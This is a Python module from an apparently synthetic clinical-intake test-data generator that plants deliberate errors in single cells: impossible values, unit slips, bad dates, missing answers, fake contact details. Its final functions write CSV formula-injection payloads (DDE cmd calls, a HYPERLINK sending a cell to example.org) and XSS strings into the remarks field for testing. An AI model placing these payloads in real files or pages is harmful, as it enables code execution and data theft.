"""The kinds of errors in single cells that are planted, each in the ways in which it comes about."""

from __future__ import annotations

from datetime import timedelta

from clinic_intake.people import MUST, Missing, add_years
from clinic_intake.spoiling import Desk, Row, plant

SI = {"serum_magnesium_mmol_l", "serum_calcium_mmol_l", "serum_albumin_g_l", "serum_creatinine_umol_l", "glucose_mmol_l"}
IMPLAUSIBLE = {
    "cramp_severity": "15", "cramp_nights_past_week": "11", "heavy_lifting_days_week": "12", "sitting_hours_day": "36",
    "standing_hours_day": "48", "fluid_glasses_day": "200", "alcohol_drinks_week": "900", "exercise_minutes_week": "30000",
}
TENFOLD = {
    "serum_potassium_mmol_l": 10, "serum_calcium_mmol_l": 10, "serum_sodium_mmol_l": 0.1, "serum_albumin_g_l": 10,
    "hba1c_percent": 10, "serum_phosphorus_mmol_l": 10, "serum_chloride_mmol_l": 0.1, "serum_bicarbonate_mmol_l": 10,
}
NUMBERS = (
    "cramp_severity", "exercise_minutes_week", "fluid_glasses_day", "body_weight_kg", "height_cm", "serum_potassium_mmol_l",
    "serum_sodium_mmol_l", "glucose_mmol_l", "serum_creatinine_umol_l",
)
YES_NO = (
    "diabetes", "varicose_veins", "heart_failure", "kidney_disease", "neuropathy", "liver_disease", "hypertension", "asthma",
)
DATED = ("age_years", "date_of_birth", "blood_sample_date", "start", "end")
CODED = ("sex", "cramp_frequency", "smoking", "education")


@plant("implausible value")
def _implausible(row: Row, desk: Desk) -> bool:
    fit = [one for one in IMPLAUSIBLE if desk.value(row, one) is not None]
    if not fit:
        return False
    variable = desk.draw.one(fit)
    return desk.spoil(row, "implausible value", variable, IMPLAUSIBLE[variable])


@plant("implausible value")
def _implausible_age(row: Row, desk: Desk) -> bool:
    if not desk.layout.has("age_years") or "pregnant" in row.person:
        return False
    written = str(desk.value(row, "age_years") + desk.draw.one((100, 200)))
    if int(written) <= 125:
        return False
    return desk.spoil(row, "implausible value", "age_years", written, "date_of_birth")


@plant("decimal slip")
def _decimal(row: Row, desk: Desk) -> bool:
    fit = [one for one in TENFOLD if desk.value(row, one) is not None and _in_si(row)]
    if not fit:
        return False
    variable = desk.draw.one(fit)
    column = desk.layout.of_variable[variable]
    number = float(row.cells[column].replace(",", ".")) * TENFOLD[variable]
    return desk.spoil(row, "decimal slip", variable, desk.layout.figure(number))


@plant("decimal slip in weight")
def _decimal_weight(row: Row, desk: Desk) -> bool:
    weight = desk.value(row, "body_weight_kg")
    if weight is None or row.person["weight_unit"] != "kg":
        return False
    wrong = weight * desk.draw.one((0.1, 10))
    return desk.spoil(row, "decimal slip in weight", "body_weight_kg", desk.layout.figure(round(wrong, 2)))


def _in_si(row: Row) -> bool:
    """Whether the laboratory of the site reports in SI units."""
    return row.person["clinic_site"] not in ("S3", "S6")


@plant("magnesium in mg/dL")
def _magnesium(row: Row, desk: Desk) -> bool:
    return _other_unit(row, desk, "magnesium in mg/dL", "serum_magnesium_mmol_l", 1 / 0.4114, 1)


@plant("calcium in mg/dL")
def _calcium(row: Row, desk: Desk) -> bool:
    return _other_unit(row, desk, "calcium in mg/dL", "serum_calcium_mmol_l", 4, 1)


@plant("creatinine in mg/dL")
def _creatinine(row: Row, desk: Desk) -> bool:
    return _other_unit(row, desk, "creatinine in mg/dL", "serum_creatinine_umol_l", 1 / 88.4, 2)


@plant("albumin in g/dL")
def _albumin(row: Row, desk: Desk) -> bool:
    return _other_unit(row, desk, "albumin in g/dL", "serum_albumin_g_l", 0.1, 1)


@plant("glucose in mg/dL")
def _glucose(row: Row, desk: Desk) -> bool:
    return _other_unit(row, desk, "glucose in mg/dL", "glucose_mmol_l", 1 / 0.05551, 0)


def _other_unit(row: Row, desk: Desk, kind: str, variable: str, factor: float, decimals: int) -> bool:
    value = desk.value(row, variable)
    if value is None or not _in_si(row):
        return False
    # what is kept as it stands: neither of these decides how urgent somebody is
    return desk.spoil(row, kind, variable, desk.layout.figure(round(value * factor, decimals)))


@plant("height in inches")
def _inches(row: Row, desk: Desk) -> bool:
    return _other_height(row, desk, "height in inches", 1 / 2.54, 0)


@plant("height in metres")
def _metres(row: Row, desk: Desk) -> bool:
    return _other_height(row, desk, "height in metres", 0.01, 2)


def _other_height(row: Row, desk: Desk, kind: str, factor: float, decimals: int) -> bool:
    height = desk.value(row, "height_cm")
    if height is None or row.person["height_unit"] != "cm":
        return False
    return desk.spoil(row, kind, "height_cm", desk.layout.figure(round(height * factor, decimals)))


@plant("weight in pounds")
def _pounds(row: Row, desk: Desk) -> bool:
    weight = desk.value(row, "body_weight_kg")
    if weight is None or row.person["weight_unit"] != "kg":
        return False
    return desk.spoil(row, "weight in pounds", "body_weight_kg", desk.layout.figure(round(weight / 0.45359237)))


@plant("HbA1c in mmol/mol")
def _hba1c(row: Row, desk: Desk) -> bool:
    percent = desk.value(row, "hba1c_percent")
    if percent is None:
        return False
    return desk.spoil(row, "HbA1c in mmol/mol", "hba1c_percent", desk.layout.figure(round((percent - 2.152) / 0.09148)),
                      "hba1c_mmol_mol")


@plant("unreadable cell")
def _unreadable(row: Row, desk: Desk) -> bool:
    fit = [one for one in NUMBERS if desk.value(row, one) is not None]
    if not fit:
        return False
    return desk.spoil(row, "unreadable cell", desk.draw.one(fit), desk.draw.one(("see chart", "12.5.3", "k8", "lots", "normal?")))


@plant("unreadable cell")
def _no_such_day(row: Row, desk: Desk) -> bool:
    variable = desk.draw.one(("visit_date", "blood_sample_date"))
    if desk.value(row, variable) is None:
        return False
    year = row.person["visit_date"].year
    written = desk.draw.one((desk.layout.day_text(30, 2, year), desk.layout.day_text(31, 4, year), "next week"))
    return desk.spoil(row, "unreadable cell", variable, written, "age_years")


@plant("birth date that cannot be read")
def _no_birth_date(row: Row, desk: Desk) -> bool:
    year = row.person["date_of_birth"].year
    written = desk.draw.one((desk.layout.day_text(31, 2, year), desk.layout.day_text(15, 14, year), "unknown day"))
    return desk.spoil(row, "birth date that cannot be read", "date_of_birth", written, "age_years", "visit_date")


@plant("unknown code")
def _unknown_answer(row: Row, desk: Desk) -> bool:
    fit = [one for one in YES_NO if desk.value(row, one) is not None]
    if not fit:
        return False
    return desk.spoil(row, "unknown code", desk.draw.one(fit), desk.layout.unknown_code["yes/no"])


@plant("unknown code")
def _unknown_level(row: Row, desk: Desk) -> bool:
    fit = [one for one in CODED if desk.value(row, one) is not None and (one, "pregnant" in row.person) != ("sex", True)]
    # a frequency that cannot be read would leave it open whether the questions after it were shown
    fit = [one for one in fit if one != "cramp_frequency" or desk.value(row, "cramps_ever")]
    if not fit:
        return False
    variable = desk.draw.one(fit)
    return desk.spoil(row, "unknown code", variable, desk.layout.unknown_code[variable])


@plant("visit in the future")
def _future_visit(row: Row, desk: Desk) -> bool:
    if "pregnant" in row.person:
        return False
    day = add_years(row.person["visit_date"], desk.draw.one((10, 20, 36)))
    return desk.put(row, "visit in the future", "visit_date", day, *DATED)


@plant("blood test in the future")
def _future_sample(row: Row, desk: Desk) -> bool:
    day = desk.value(row, "blood_sample_date")
    if day is None:
        return False
    later = add_years(day, desk.draw.one((10, 20, 36)))
    return desk.put(row, "blood test in the future", "blood_sample_date", later, "visit_date")


@plant("born in the future")
def _born_late(row: Row, desk: Desk) -> bool:
    if "pregnant" in row.person:
        return False
    # a year of two figures read as this century's
    day = add_years(row.person["date_of_birth"], 100)
    if day.year < 2030:
        return False
    return desk.put(row, "born in the future", "date_of_birth", day, "age_years", "visit_date", "blood_sample_date")


@plant("visit before birth")
def _unborn(row: Row, desk: Desk) -> bool:
    if "pregnant" in row.person or row.person["date_of_birth"].year < 1928:
        return False
    day = add_years(row.person["visit_date"], -100)
    return desk.put(row, "visit before birth", "visit_date", day, *DATED)


@plant("blood test far from the visit")
def _far_sample(row: Row, desk: Desk) -> bool:
    day = desk.value(row, "blood_sample_date")
    if day is None:
        return False
    return desk.put(row, "blood test far from the visit", "blood_sample_date", add_years(day, desk.draw.one((-1, -2, -10))),
                    "visit_date")


@plant("form ended before it began")
def _backwards(row: Row, desk: Desk) -> bool:
    if desk.value(row, "end") is None:
        return False
    end = row.person["start"] - timedelta(minutes=desk.draw.whole(5, 50))
    return desk.put(row, "form ended before it began", "end", end, "start")


@plant("missing safety answer")
def _left_open(row: Row, desk: Desk) -> bool:
    fit = [one for one in MUST if desk.value(row, one) is not None]
    return desk.put(row, "missing safety answer", desk.draw.one(fit), Missing(desk.draw.one(("did not know", "left empty"))))


@plant("missing safety answer")
def _page_left_out(row: Row, desk: Desk) -> bool:
    for one in MUST[:16]:
        desk.put(row, "missing safety answer", one, Missing())
    return True


@plant("telephone number in free text")
def _phone(row: Row, desk: Desk) -> bool:
    number = desk.draw.one((f"0171 555 {desk.draw.whole(1000, 9999)}", f"+49 30 555 {desk.draw.whole(10000, 99999)}",
                            f"(555) 555-{desk.draw.whole(1000, 9999)}"))
    written = desk.draw.one((f"call daughter {number}", f"phone {number} after six", f"please ring {number}"))
    return desk.spoil(row, "telephone number in free text", "remarks", written, means=written)


@plant("e-mail address in free text")
def _mail(row: Row, desk: Desk) -> bool:
    given, surname = row.person["name"].lower().split(" ", 1)
    written = f"{desk.draw.one(('results to', 'write to', 'mail'))} {given}.{surname.replace(' ', '')}@example.org"
    return desk.spoil(row, "e-mail address in free text", "remarks", written, means=written)


@plant("name in free text")
def _name(row: Row, desk: Desk) -> bool:
    surname = row.person["name"].split(" ", 1)[1]
    written = desk.draw.one((
        f"Mrs {surname} came with her husband", f"sent by Dr. {surname}", f"son is called {row.person['name']}",
    ))
    return desk.spoil(row, "name in free text", "remarks", written, means=written)


@plant("formula in a cell")
def _formula(row: Row, desk: Desk) -> bool:
    written = desk.draw.one((
        "=cmd|'/C calc'!A0", '=HYPERLINK("http://example.org/?"&A2,"open")', "@SUM(1+1)*cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
    ))
    return desk.spoil(row, "formula in a cell", "remarks", written, means=written)


@plant("HTML in a cell")
def _html(row: Row, desk: Desk) -> bool:
    written = desk.draw.one(("<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "</td></table><h1>hello</h1>",
                             "\"><svg onload=alert(1)>", "<iframe src=https://example.org></iframe>"))
    return desk.spoil(row, "HTML in a cell", "remarks", written, means=written)
